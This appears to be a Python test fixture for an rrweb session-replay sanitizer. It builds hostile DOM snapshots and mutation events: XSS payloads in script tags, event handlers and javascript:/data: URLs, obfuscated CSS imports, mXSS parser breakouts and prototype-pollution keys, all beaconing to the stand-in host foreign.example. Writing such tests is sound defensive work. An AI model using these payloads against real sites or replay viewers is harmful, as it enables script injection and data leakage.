"""Nodes and changes that mean harm: what runs, loads, leads away or makes no sense, after what rrweb's issues tell.

Whatever runs says so in `top.broken` and asks for something at FOREIGN, at which the tests with a browser listen.
"""

from __future__ import annotations

from typing import Any

Event = dict[str, Any]

FOREIGN = "http://foreign.example"
RUN = (
    f"try{{top.broken=1}}catch(e){{}}try{{parent.parent.broken=1}}catch(e){{}}new Image().src='{FOREIGN}/ran'"
)
MARKUP = f'<img src=x onerror="{RUN}"><script>{RUN}</script><iframe src="javascript:{RUN}"></iframe>'
ADDRESSES = [
    f"javascript:{RUN}",
    f" java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\"/>",
    f"vbscript:{RUN}",
    "blob:null/1",
    "file:///etc/hostname",
    f"{FOREIGN}/a.png",
    f"//{FOREIGN.partition('//')[2]}/b.png",
    "\\\\foreign.example\\c.png",
]
STYLES = [
    f"@import '{FOREIGN}/1.css';",
    f"@im\\70ort url({FOREIGN}/2.css);",
    f"@charset 'x'; @import url({FOREIGN}/3.css) screen;",
    f"a {{}} /* @im */ @import/**/'{FOREIGN}/4.css';",
    f"* {{ background: url({FOREIGN}/5.png) }}",
    f"* {{ background: u\\72l('{FOREIGN}/6.png') }}",
    f"* {{ background: image-set('{FOREIGN}/7.png' 1x) }}",
    f"* {{ background: -webkit-image-set(url({FOREIGN}/8.png) 1x) }}",
    f"@font-face {{ font-family: f; src: url({FOREIGN}/9.woff2) }} * {{ font-family: f }}",
    f"* {{ cursor: url({FOREIGN}/10.cur), auto; list-style: url({FOREIGN}/11.png) }}",
    f'* {{ background: url("javascript:{RUN}") }}',
    f"* {{ width: expression({RUN}); behavior: url({FOREIGN}/12.htc); -moz-binding: url({FOREIGN}/13.xml#x) }}",
    f"* {{ color: red }} </style>{MARKUP}",
    f'<!-- * {{ color: red }} --> ]]> </style><svg onload="{RUN}">',
    f"@namespace url({FOREIGN}/14); @property --x {{ syntax: '<url>'; inherits: true; initial-value: x }}",
    f"input[value^=a] {{ background: url({FOREIGN}/16?a) }} :host {{ mask: url({FOREIGN}/17.svg#m) }}",
    "* { position: fixed; inset: -9999px; z-index: 2147483647 } " * 3,
    "a{" * 3000,
]
EVENTS = [
    *("onload", "onerror", "onclick", "ONERROR", "onfocus", "ontoggle", "onbeforetoggle", "onanimationstart"),
    *("onscrollend", "onbegin", "onstart", "onpageshow", "onmessage", "_onload", "on", "onload\n"),
]
ODD_KEYS = [
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "length",
    "",
    "\x00",
    "a b",
]


def el(tag: str, *children: Event, **attributes: Any) -> Event:
    """An element; `__` in a name of an attribute stands for `-`, one at its end for nothing."""
    named = {name.removesuffix("_").replace("__", "-"): value for name, value in attributes.items()}
    return {"type": 2, "tagName": tag, "attributes": named, "childNodes": list(children)}


def text(value: str, **more: Any) -> Event:
    return {"type": 3, "textContent": value, **more}


def numbered(node: Event, first: int) -> int:
    """Gives ids to all that have none, from `first` on; the next free one."""
    if "id" not in node:
        node["id"] = first
        first += 1
    for child in node.get("childNodes") or []:
        first = numbered(child, first)
    return first


def change(source: int, **fields: Any) -> Event:
    return {"type": 3, "timestamp": 1, "data": {"source": source, **fields}}


def mutation(**fields: Any) -> Event:
    return change(0, **{"texts": [], "attributes": [], "removes": [], "adds": [], **fields})


def deep(levels: int, tag: str = "div") -> Event:
    node = el(tag, text("the innermost"))
    for _ in range(levels):
        node = el(tag, node)
    return node


def nodes() -> list[Event]:
    """Things that run, load or lead away, one by one."""
    inner = {"type": 0, "childNodes": [el("html", el("head"), el("body", el("script", text(RUN))))]}
    made = [
        el("script", text(RUN)),
        el("SCRIPT", text(RUN), src=f"{FOREIGN}/s.js"),
        {**el("script", text(RUN), href=f"data:text/javascript,{RUN}"), "isSVG": True},
        {**el("svg", el("script", text(RUN)), onload=RUN), "isSVG": True},
        el("img", src="x", onerror=RUN, srcset=f"{FOREIGN}/set.png 1x"),
        el("img", rr_dataURL=f"{FOREIGN}/data.png", src="x", srcset="y"),
        el("img", rr_src=f"{FOREIGN}/src.png", rr_width=f"1px;background:url({FOREIGN}/w.png)"),
        el("canvas", rr_dataURL=f"{FOREIGN}/canvas.png", data__cobrowse__picture=f'x") url({FOREIGN}/c.png'),
        el("video", src=f"{FOREIGN}/v.mp4", autoplay="", onloadstart=RUN, rr_mediaState="played"),
        el("audio", el("source", src=f"{FOREIGN}/a.mp3"), rr_mediaState="played", rr_mediaCurrentTime=9),
        el("iframe", src=f"javascript:{RUN}", onload=RUN),
        el("iframe", srcdoc=f"<script>{RUN}</script>"),
        el("IFRAME", SRCDOC=f"<script>{RUN}</script>", src=f"{FOREIGN}/frame"),
        el(
            "iframe",
            sandbox="allow-scripts allow-same-origin",
            srcdoc=MARKUP,
            allow="camera",
            csp="x",
            name="broken",
        ),
        el("iframe", inner),
        el("div", inner),
        el("object", data=f"data:text/html,{MARKUP}", type="text/html"),
        el("embed", src=f"{FOREIGN}/e.svg", type="image/svg+xml"),
        el("applet", code=f"{FOREIGN}/A.class"),
        el("frameset", el("frame", src=f"javascript:{RUN}"), onload=RUN),
        el("portal", src=f"{FOREIGN}/portal"),
        el("fencedframe", src=f"{FOREIGN}/fenced"),
        el(
            "form",
            el("button", formaction=f"javascript:{RUN}", autofocus="", onfocus=RUN),
            action=f"{FOREIGN}/form",
        ),
        el("input", type="image", src=f"{FOREIGN}/i.png", formaction=f"javascript:{RUN}", onerror=RUN),
        el("details", el("summary", text("x")), open="", ontoggle=RUN),
        el("dialog", open="", onbeforetoggle=RUN, onclose=RUN),
        el("marquee", text("x"), onstart=RUN, onfinish=RUN),
        el("div", popover="auto", data__cobrowse__popover="", onbeforetoggle=RUN),
        el("a", text("x"), href=f"javascript:{RUN}", target="_top", ping=f"{FOREIGN}/ping", download=""),
        {**el("a", text("x"), **{"xlink:href": f"javascript:{RUN}"}), "isSVG": True},
        {**el("svg", el("use", **{"xlink:href": f"data:image/svg+xml,{MARKUP}#x"})), "isSVG": True},
        {**el("image", href=f"{FOREIGN}/image.png", **{"xlink:href": f"{FOREIGN}/xlink.png"}), "isSVG": True},
        {**el("feImage", href=f"{FOREIGN}/feimage.png"), "isSVG": True},
        {
            **el("animate", attributeName="href", values=f"javascript:{RUN}", onbegin=RUN, begin="0s"),
            "isSVG": True,
        },
        {**el("set", attributeName="onmouseover", to=RUN, onbegin=RUN), "isSVG": True},
        {**el("foreignObject", el("iframe", srcdoc=MARKUP)), "isSVG": True},
        {**el("style", text(STYLES[4], isStyle=True)), "isSVG": True},
        el("math", el("mtext", el("table", el("mglyph", el("style", text(f"<!--</style>{MARKUP}")))))),
        el("annotation-xml", el("div", onclick=RUN), encoding="text/html"),
        el("noscript", text(f'<p title="</noscript>{MARKUP}">')),
        el("template", el("script", text(RUN)), shadowrootmode="open"),
        el("textarea", text("x"), value=f"</textarea>{MARKUP}"),
        el("xmp", text(f"</xmp>{MARKUP}")),
        el("plaintext", text(MARKUP)),
        el("title", text(f"</title>{MARKUP}")),
        el("option", text(MARKUP), label=MARKUP),
        el("select", el("selectedcontent", text(MARKUP)), el("option", text("x"))),
        el("style", text(f"</style>{MARKUP}", isStyle=True)),
        el("div", text(STYLES[0], isStyle=True), text(MARKUP)),
        el("link", rel="stylesheet", href=f"{FOREIGN}/l.css"),
        el("link", rel="stylesheet", _cssText=STYLES[2], href=f"{FOREIGN}/l2.css"),
        el("link", rel="stylesheet", _cssHash="0" * 64),
        *(
            el("link", rel=rel, href=f"{FOREIGN}/{rel}", as_="script")
            for rel in (
                "preload",
                "import",
                "prefetch",
                "prerender",
                "dns-prefetch",
                "preconnect",
                "modulepreload",
                "manifest",
                "icon",
                "stylesheet preload",
            )
        ),
        el("meta", http__equiv="refresh", content=f"0;url={FOREIGN}/refresh"),
        el("meta", http__equiv="Content-Security-Policy", content="script-src * 'unsafe-inline'"),
        el("meta", http__equiv="set-cookie", content="broken=1"),
        el("base", href=f"{FOREIGN}/base/", target="_top"),
        el("body", onload=RUN, background=f"{FOREIGN}/background.png"),
        el("html", manifest=f"{FOREIGN}/manifest"),
        {**el("x-broken", is_="x-broken"), "isCustom": True},
        {**el("input"), "isShadowHost": True},
        {**el("div", {**el("script", text(RUN)), "isShadow": True}), "isShadowHost": True},
        {**el("div", {**el("slot", name="x"), "isShadow": True}), "isShadow": True},
        {"type": 2, "tagName": "div", "attributes": {}},
        {"type": 2, "tagName": "", "attributes": {}, "childNodes": []},
        {"type": 2, "tagName": "a b><script>", "attributes": {}, "childNodes": []},
        {"type": 2, "tagName": "__proto__", "attributes": {}, "childNodes": []},
        {"type": 2, "tagName": "constructor", "attributes": {"rr_open_mode": RUN}, "childNodes": []},
        {"type": 4, "textContent": f"]]>{MARKUP}"},
        {"type": 5, "textContent": f"--><script>{RUN}</script>"},
        {"type": 1, "name": f"html><script>{RUN}</script>", "publicId": MARKUP, "systemId": MARKUP},
        {"type": 3},
        {"type": 3, "textContent": "\ud800\u0000\u202e"},
        el(
            "div",
            style={
                "background": [f"url({FOREIGN}/style.png)", "important"],
                "__proto__": "x",
                "cssText": "x",
            },
        ),
        el("div", style=f"background: url({FOREIGN}/inline.png); width: 1px"),
        el("p", contenteditable="", autofocus="", tabindex="1", onfocus=RUN, accesskey="x"),
        deep(60),
        deep(60, "table"),
    ]
    made += [el("div", style=style) for style in STYLES]
    made += [el("style", text(style, isStyle=True)) for style in STYLES]
    made += [el("style", _cssText=style) for style in STYLES]
    made += [
        el(tag, **{name: address})
        for address in ADDRESSES
        for tag, name in (
            ("img", "src"),
            ("a", "href"),
            ("video", "poster"),
            ("iframe", "src"),
            ("use", "href"),
        )
    ]
    made += [el("div", **{name: RUN}) for name in EVENTS]
    made += [el("div", **{key: key}) for key in ODD_KEYS]
    return made


def changes() -> list[Event]:
    """What may come after a page, and should not: body is 4, a paragraph 10 with its text 11, a style sheet 12."""
    foreign = f"* {{ background: url({FOREIGN}/rule.png) }}"
    return [
        mutation(adds=[{"parentId": 10, "nextId": None, "node": {**el("p", {**el("b"), "id": 4}), "id": 4}}]),
        mutation(adds=[{"parentId": 10, "nextId": None, "node": {**el("p"), "id": 10}}]),
        mutation(
            adds=[
                {"parentId": 6001, "nextId": 6000, "node": {**el("p"), "id": 6000}},
                {"parentId": 6000, "nextId": 6001, "node": {**el("p"), "id": 6001}},
            ]
        ),
        mutation(
            adds=[
                {"parentId": 4, "nextId": None, "node": {**el("p"), "id": each}}
                for each in (1, 2, 3, 4, 0, -1, -2)
            ]
        ),
        mutation(adds=[{"parentId": 4, "nextId": None, "node": {**el("p"), "id": 2**31 - 1}}]),
        mutation(adds=[{"parentId": 4, "nextId": None, "node": {**el("p"), "id": 2**53}}]),
        mutation(
            adds=[{"parentId": 1, "nextId": 2, "node": {**el("html", el("script", text(RUN))), "id": 77}}]
        ),
        mutation(adds=[{"parentId": 11, "nextId": 4, "node": {**el("p"), "id": 78}}]),
        mutation(adds=[{"parentId": 4, "nextId": None, "node": {"type": 0, "id": 79, "childNodes": []}}]),
        mutation(
            removes=[{"parentId": 1, "id": 2}, {"parentId": 1, "id": 1}, {"parentId": 9999, "id": 9999}]
        ),
        mutation(removes=[{"parentId": 4, "id": 2}, {"parentId": 2, "id": 4, "isShadow": True}]),
        mutation(
            texts=[
                {"id": 4, "value": MARKUP},
                {"id": 1, "value": MARKUP},
                {"id": 12, "value": STYLES[0]},
                {"id": 13, "value": foreign},
            ]
        ),
        mutation(
            attributes=[
                {"id": each, "attributes": {"onload": RUN, "style": {"--x": "1"}}} for each in (1, 4, 11, 13)
            ]
        ),
        mutation(attributes=[{"id": 4, "attributes": dict.fromkeys([*EVENTS, *ODD_KEYS], RUN)}]),
        mutation(
            attributes=[{"id": 14, "attributes": {"src": address, "srcdoc": MARKUP}} for address in ADDRESSES]
        ),
        mutation(
            attributes=[
                {"id": 10, "attributes": {"style": {"background": [foreign, "x"], "__proto__": MARKUP}}}
            ]
        ),
        change(
            1,
            positions=[
                {"x": 1e8, "y": -1e8, "id": each, "timeOffset": -1e8} for each in (1, 4, 11, 9999, -2)
            ],
        ),
        change(1, positions=[{"x": 0, "y": 0, "id": 4, "timeOffset": 0}] * 500),
        *(change(2, type=kind, id=each, x=1, y=1) for kind in (0, 2, 4, 5, 12) for each in (1, 4, 11, 9999)),
        *(change(3, id=each, x=1e8, y=-1e8) for each in (1, 2, 4, 11, 9999)),
        change(4, width=1e8, height=1e8),
        change(4, width=-1, height=0),
        change(4, width=1200, height=800),
        *(change(5, id=each, text=MARKUP, isChecked=True) for each in (1, 4, 10, 11, 14, 9999)),
        change(6, positions=[]),
        change(7, id=15, type=0, currentTime=1e9, volume=99, muted=False, playbackRate=1e9),
        change(8, id=12, adds=[{"rule": foreign, "index": each} for each in (0, -1, 10**9, [0, 0, 0])]),
        change(8, id=12, adds=[{"rule": STYLES[0]}], removes=[{"index": 10**9}, {"index": []}]),
        change(
            8, id=4, adds=[{"rule": foreign}], removes=[{"index": 0}], replace=foreign, replaceSync=STYLES[0]
        ),
        change(8, styleId=999, replace=foreign),
        change(
            9,
            id=15,
            type=0,
            commands=[
                {"property": "constructor", "args": [RUN]},
                {
                    "property": "drawImage",
                    "args": [
                        {"rr_type": "ImageBitmap", "args": [{"rr_type": "Blob", "data": [], "type": MARKUP}]}
                    ],
                },
            ],
        ),
        change(
            9, id=15, type=1, property="__proto__", args=[{"rr_type": "Function", "args": [RUN]}], setter=True
        ),
        change(10, family="f", fontSource=f"url({FOREIGN}/font.woff2)", buffer=False),
        change(11, level="error", trace=[], payload=[RUN]),
        change(12, positions=[]),
        change(
            13,
            id=12,
            index=[0],
            set={"property": "background", "value": f"url({FOREIGN}/set.png)", "priority": "x"},
        ),
        change(13, id=12, index=[9, 9, 9], remove={"property": "__proto__"}),
        change(13, id=4, index=[], set={"property": "cssText", "value": foreign}),
        change(14, ranges=[{"start": 4, "startOffset": 99, "end": 11, "endOffset": -1}]),
        change(
            15,
            id=1,
            styleIds=[1, 1, 2],
            styles=[{"styleId": 1, "rules": [{"rule": foreign}, {"rule": STYLES[0]}]}],
        ),
        change(15, id=11, styleIds=[9], styles=[]),
        change(16, define={"name": "x-broken"}),
        change(99, whatever=RUN),
        change(0),
        {"type": 5, "timestamp": 1, "data": {"tag": "x", "payload": RUN}},
        {"type": 5, "timestamp": 1, "data": {"elements": -1, "hash": 0}},
        {"type": 6, "timestamp": 1, "data": {"plugin": "rrweb/console@1", "payload": {"trace": [RUN]}}},
        {"type": 4, "timestamp": 1, "data": {"href": f"javascript:{RUN}", "width": 1, "height": 1}},
        {"type": 0, "timestamp": 1, "data": {}},
        {"type": 3, "timestamp": 1e300, "data": {"source": 3, "id": 4, "x": 0, "y": 0}},
        {
            "__proto__": {"polluted": 1},
            "type": 3,
            "timestamp": 1,
            "data": {"__proto__": {"polluted": 1}, "source": 4, "width": 1200, "height": 800},
        },
    ]
